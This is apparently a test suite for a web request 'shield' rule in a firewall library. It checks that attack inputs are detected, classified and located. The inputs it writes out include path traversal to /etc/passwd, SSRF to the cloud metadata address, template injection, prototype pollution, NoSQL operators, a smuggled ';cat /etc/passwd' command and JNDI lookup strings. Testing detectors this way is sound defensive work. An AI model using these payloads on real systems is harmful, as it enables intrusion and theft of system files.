// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attack payloads are literal "${...}" strings, not templates.
import assert from "node:assert/strict";
import { describe, it } from "node:test";
import { type Decision, ParapetError } from "@parapet/core";
import { type ShieldOptions, type ShieldReason, shield } from "../src/index.js";
import { shieldDecisionOn } from "./helpers.js";

const decide = shieldDecisionOn;

function reasonOf(decision: Decision): ShieldReason {
  assert.equal(decision.conclusion, "DENY");
  assert.equal(decision.reason.type, "SHIELD");
  return decision.reason as ShieldReason;
}

describe("shield rule", () => {
  it("allows an ordinary request", async () => {
    const decision = await decide({ url: "/search?q=select+the+best+option&name=O%27Brien&page=2" });
    assert.equal(decision.conclusion, "ALLOW");
  });

  it("names the class and the place of a query attack", async () => {
    const reason = reasonOf(await decide({ url: "/file?name=..%2F..%2F..%2Fetc%2Fpasswd" }));
    assert.equal(reason.class, "traversal");
    assert.equal(reason.location, "query.name");
    assert.ok(reason.score >= 0.7 && reason.score <= 1);
    assert.match(reason.evidence, /etc\/passwd/);
    assert.equal(decision403(reason), true);
  });

  it("follows a[b][c] query keys into the location", async () => {
    const reason = reasonOf(await decide({ url: "/?user[profile][site]=http://169.254.169.254/latest/" }));
    assert.equal(reason.class, "ssrf");
    assert.equal(reason.location, "query.user.profile.site");
  });

  it("inspects JSON keys and leaves with their path", async () => {
    const body = JSON.stringify({ user: { name: "ann", prefs: { theme: "{{7*7}}" } } });
    const reason = reasonOf(await decide({ method: "POST", url: "/u", headers: { host: "h", "content-type": "application/json" }, body }));
    assert.equal(reason.class, "ssti");
    assert.equal(reason.location, "body.user.prefs.theme");
  });

  it("catches prototype pollution through a JSON key", async () => {
    const body = '{"a":1,"__proto__":{"isAdmin":true}}';
    const reason = reasonOf(await decide({ method: "POST", url: "/", headers: { host: "h", "content-type": "application/json" }, body }));
    assert.equal(reason.class, "proto-pollution");
    assert.equal(reason.location, "body.__proto__");
  });

  it("catches NoSQL operators in query keys", async () => {
    const reason = reasonOf(await decide({ url: "/login?user=admin&password[$ne]=x" }));
    assert.equal(reason.class, "nosqli");
    assert.equal(reason.location, "query.password.$ne");
  });

  it("inspects form bodies, cookies and User-Agent", async () => {
    const form = reasonOf(
      await decide({
        method: "POST",
        url: "/",
        headers: { host: "h", "content-type": "application/x-www-form-urlencoded" },
        body: "cmd=%3B+cat+%2Fetc%2Fpasswd",
      }),
    );
    assert.equal(form.location, "body.cmd");
    const cookie = reasonOf(await decide({ url: "/", headers: { host: "h", cookie: "theme=dark; pref=__proto__.x=1" } }));
    assert.equal(cookie.location, "cookie.pref");
    const ua = reasonOf(await decide({ url: "/", headers: { host: "h", "user-agent": "${jndi:ldap://x/a}" } }));
    assert.equal(ua.class, "jndi");
    assert.equal(ua.location, "header.user-agent");
  });

  it("lists every finding, strongest first", async () => {
    const reason = reasonOf(await decide({ url: "/?a=..%2F..%2Fetc%2Fpasswd&b=$%7Bjndi:ldap://x%7D" }));
    const locations = [...new Set(reason.findings.map((f) => f.location))].sort();
    assert.deepEqual(locations, ["query.a", "query.b"]);
    for (let i = 1; i < reason.findings.length; i++) assert.ok((reason.findings[i - 1]?.score ?? 0) >= (reason.findings[i]?.score ?? 0));
  });

  it("trades recall for false positives with sensitivity", async () => {
    const request = { url: "/?next=../images/a.png" };
    assert.equal((await decide(request, { sensitivity: "medium" })).conclusion, "ALLOW");
    assert.equal((await decide(request, { sensitivity: "high" })).conclusion, "DENY");
  });

  it("reports without denying in DRY_RUN", async () => {
    const decision = await decide({ url: "/?f=../../etc/passwd" }, { mode: "DRY_RUN" });
    assert.equal(decision.conclusion, "ALLOW");
    assert.equal(decision.results[0]?.conclusion, "DENY");
  });

  it("can turn places off", async () => {
    const decision = await decide({ url: "/?f=../../etc/passwd" }, { inspect: { query: false } });
    assert.equal(decision.conclusion, "ALLOW");
  });

  it("answers a request over the limits on what it read, and says so", async () => {
    const filler = "a=b&".repeat(5_000);
    const decision = await decide({ url: `/?${filler}x=../../etc/passwd` }, { inspect: { maxValues: 100 } });
    assert.equal(decision.conclusion, "ALLOW");
    const early = reasonOf(await decide({ url: `/?x=../../etc/passwd&${filler}` }, { inspect: { maxValues: 100 } }));
    assert.equal(early.truncated, true);
  });

  it("handles a malformed JSON body and broken escapes without failing", async () => {
    const bad = await decide({
      method: "POST",
      url: "/?q=%E0%A4%A&r=%",
      headers: { host: "h", "content-type": "application/json" },
      body: '{"a": ',
    });
    assert.equal(bad.conclusion, "ALLOW");
    const attack = await decide({
      method: "POST",
      url: "/",
      headers: { host: "h", "content-type": "application/json" },
      body: '{"a": "../../etc/passwd',
    });
    assert.equal(reasonOf(attack).class, "traversal");
  });

  it("stops at the JSON depth limit without overflowing the stack", async () => {
    const deep = `${"[".repeat(5_000)}"x"${"]".repeat(5_000)}`;
    const decision = await decide({ method: "POST", url: "/", headers: { host: "h", "content-type": "application/json" }, body: deep });
    assert.equal(decision.conclusion, "ALLOW");
  });

  it("validates options loudly at construction", () => {
    assert.throws(() => shield({ mode: "ON" as "LIVE" }), ParapetError);
    assert.throws(() => shield({ mode: "LIVE", sensitivity: "max" as "high" }), /sensitivity/);
    assert.throws(() => shield({ mode: "LIVE", inspect: { maxBytes: -1 } }), /maxBytes/);
    assert.throws(() => shield({ mode: "LIVE", inspect: { headers: [""] } }), /headers/);
    assert.throws(() => shield({ mode: "LIVE", classes: ["csrf" as "xss"] }), /unknown attack class/);
    assert.throws(() => shield(undefined as unknown as ShieldOptions), /options object/);
  });
});

function decision403(reason: ShieldReason): boolean {
  return reason.message.includes(reason.class) && reason.message.includes(reason.location);
}
